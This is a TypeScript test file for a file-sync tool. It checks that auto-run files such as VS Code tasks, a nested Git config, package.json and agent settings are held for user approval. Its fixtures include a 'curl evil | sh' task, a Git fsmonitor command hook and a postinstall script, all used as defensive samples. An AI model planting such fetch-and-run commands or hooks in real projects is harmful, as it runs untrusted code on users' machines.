/** Files that programs run by themselves (R10.6, R10.7) and the one that names the app (R10.8), as a person meets them. */
import { spawnSync } from 'node:child_process'
import { mkdirSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test, vi } from 'vitest'
import type { TrustReport } from '../../src/engine/report.ts'
import { runCommand } from '../support/lockstep.ts'
import { until } from '../support/until.ts'
import { World } from '../support/world.ts'

// Most of the time is spent waiting for processes.
vi.setConfig({ maxConcurrency: 4 })

const TASKS = '.vscode/tasks.json'
const [GOOD, EVIL] = ['{\n  "tasks": []\n}\n', '{\n  "tasks": ["curl evil | sh"]\n}\n']

describe.concurrent('an attacker who may write rows', () => {
  test('R10.6 R12.3 plants a harmless task and then a hostile one: neither comes unseen', async () => {
    await using world = new World({ patterns: ['**/*.json'] })
    const { b } = world
    world.createTable()
    world.put({ path: TASKS, content: GOOD })
    world.put({ path: 'data/a.json', content: '{}' })
    expect((await b.plan()).actions).toContainEqual({
      path: TASKS,
      channel: 'shared',
      action: 'hold',
      reason: 'may-run-code',
    })
    expect(await b.sync()).toMatchObject({ pulled: 1, skipped: 1, waiting: 1, problems: 0 })
    expect(b.read(TASKS)).toBeNull()
    expect(await b.status()).toMatchObject({
      state: 'idle',
      pending: 0,
      holds: [{ path: TASKS, kind: 'content', side: 'local', reason: 'may-run-code' }],
    })
    expect((await b.run('explain', TASKS)).json).toMatchObject({ state: 'held' })

    const unnamed = await b.run('approve')
    expect(unnamed.code).toBe(3)
    expect(unnamed.json).toMatchObject({ done: [], problems: [{ code: 'content-waits' }] })
    const restored = await b.run('restore-held', TASKS)
    expect(restored.code).toBe(3)
    expect(b.read(TASKS)).toBeNull()

    const shown = await runCommand(['trust', b.folder], b.env)
    expect(shown.code).toBe(0)
    for (const text of [TASKS, '"tasks": []', 'lockstep approve']) expect(shown.stdout).toContain(text)
    expect((await b.run('approve', TASKS)).json).toMatchObject({ done: [{ path: TASKS }] })
    expect(b.read(TASKS)).toBe(GOOD)

    world.put({ path: TASKS, content: EVIL })
    expect(await b.sync()).toMatchObject({ pulled: 0, waiting: 1 })
    expect(b.read(TASKS)).toBe(GOOD)
    const words = (await runCommand(['status', b.folder], b.env)).stdout
    expect(words).toContain('1 file waits for your yes (programs run such a file by themselves)')
    expect((await runCommand(['trust', b.folder], b.env)).stdout).toContain('+   "tasks": ["curl evil | sh"]')
  })

  test('R10.7 exchanges the content behind a look at it, under a running engine: the yes is for what was shown', async () => {
    await using world = new World({ patterns: ['**/*.json'] })
    const { b } = world
    world.createTable()
    world.put({ path: TASKS, content: GOOD })
    await b.watch()
    const waiting = async (): Promise<string | undefined> =>
      ((await b.run('trust')).json as TrustReport).waiting[0]?.hash
    await until(async () => (await waiting()) !== undefined, 'the content to wait')
    const shown = await runCommand(['trust', b.folder], b.env)
    const [hash = ''] = /[0-9a-f]{64}/.exec(shown.stdout) ?? []
    expect(shown.stdout).toContain('--content <SHA-256>')
    world.put({ path: TASKS, content: EVIL })
    await until(async () => (await waiting()) !== hash, 'the other content to wait')

    const refused = await b.run('approve', TASKS, '--content', hash)
    expect(refused.code).toBe(3)
    expect(refused.json).toMatchObject({ done: [], problems: [{ code: 'content-waits' }] })
    expect(b.read(TASKS)).toBeNull()
    world.put({ path: TASKS, content: GOOD })
    await until(async () => (await waiting()) === hash, 'the first one to wait again')
    expect((await b.run('approve', TASKS, '--content', hash)).code).toBe(0)
    await until(() => b.read(TASKS) === GOOD, 'it to come')
  })

  test('R10.6 makes a repository within a folder, whose settings Git runs: it is none', async () => {
    await using world = new World({ patterns: ['data/**'] })
    const { b } = world
    world.createTable()
    world.put({ path: 'data/sub/HEAD', content: 'ref: refs/heads/main\n' })
    const settings =
      '[core]\n\trepositoryformatversion = 0\n\tworktree = .\n\tfsmonitor = "touch ran; false"\n'
    world.put({ path: 'data/sub/config', content: settings })
    for (const path of ['data/sub/objects/x', 'data/sub/refs/x', 'data/head/plain.md'])
      world.put({ path, content: 'x\n' })
    expect(await b.sync()).toMatchObject({ pulled: 4, waiting: 1 })
    expect(b.has('data/sub/HEAD')).toBe(false)
    const limit = { GIT_CEILING_DIRECTORIES: b.folder, PATH: process.env['PATH'] }
    const git = spawnSync('git', ['status'], { cwd: b.at('data/sub'), env: limit })
    if (git.error === undefined) expect(git.status).not.toBe(0)
    expect(b.has('data/sub/ran')).toBe(false)
  })

  test('R10.8 puts a package.json there: the device goes on as its own app', async () => {
    await using world = new World({ patterns: ['**/*.json'] })
    const { b } = world
    const before = b.read('package.json')
    world.createTable()
    world.put({ path: 'package.json', content: '{"name":"attackers-app","scripts":{"postinstall":"evil"}}' })
    world.put({ path: 'data/app/package.json', content: '{"name":"inner"}' })
    b.write('data/own.json', '{}')
    const summary = await b.sync()
    expect(summary).toMatchObject({ pushed: 1, pulled: 1 })
    expect(b.read('package.json')).toBe(before)
    expect(b.read('data/app/package.json')).toBe('{"name":"inner"}')
    expect((await b.run('explain', 'package.json')).json).toMatchObject({
      state: 'denied',
      rule: { pattern: 'package.json', category: "sync's own files" },
    })
    expect(world.rows("path = 'package.json'")[0]!.content).toContain('attackers-app')
    await b.sync()
    expect(world.rows("app = 'attackers-app'")).toEqual([])
  })
})

test('R10.7 a team that shares the settings of its agents: one question at init, and none later', async () => {
  const settings = '.claude/settings.json'
  const patterns = ['data/**', '.claude/*.json']
  await using world = new World({ patterns, names: ['a'] })
  const { a } = world
  a.write(settings, GOOD)
  expect(await a.sync()).toMatchObject({ pushed: 1 })

  const folder = join(world.folder, 'c')
  mkdirSync(folder)
  const { env: c } = a
  const init = (...args: readonly string[]) =>
    runCommand(['init', folder, '--app', 'story', '--sqlite', '../shared/sync.db', '--json', ...args], c)
  const asked = await init('--pattern', ...patterns)
  expect(asked.code).toBe(0)
  expect(asked.json).toMatchObject({ records: 1, waiting: [settings], trusted: [] })
  const refused = await init('--trust-code', '!x')
  expect(refused.code).toBe(2)
  const trusted = await init('--trust-code', settings)
  expect(trusted.json).toMatchObject({ waiting: [], trusted: [settings] })
  const sync = async (): Promise<unknown> => (await runCommand(['sync', folder, '--json'], c)).json
  expect(await sync()).toMatchObject({ pulled: 1, skipped: 0 })
  a.write(settings, EVIL)
  await a.sync()
  expect(await sync()).toMatchObject({ pulled: 1, skipped: 0 })

  const removed = await runCommand(['trust', folder, '--remove', settings, '--json'], c)
  expect(removed.json).toMatchObject({ patterns: [], waiting: [] })
  a.write(settings, '{\n  "tasks": ["other"]\n}\n')
  await a.sync()
  expect(await sync()).toMatchObject({ pulled: 0, waiting: 1 })
})
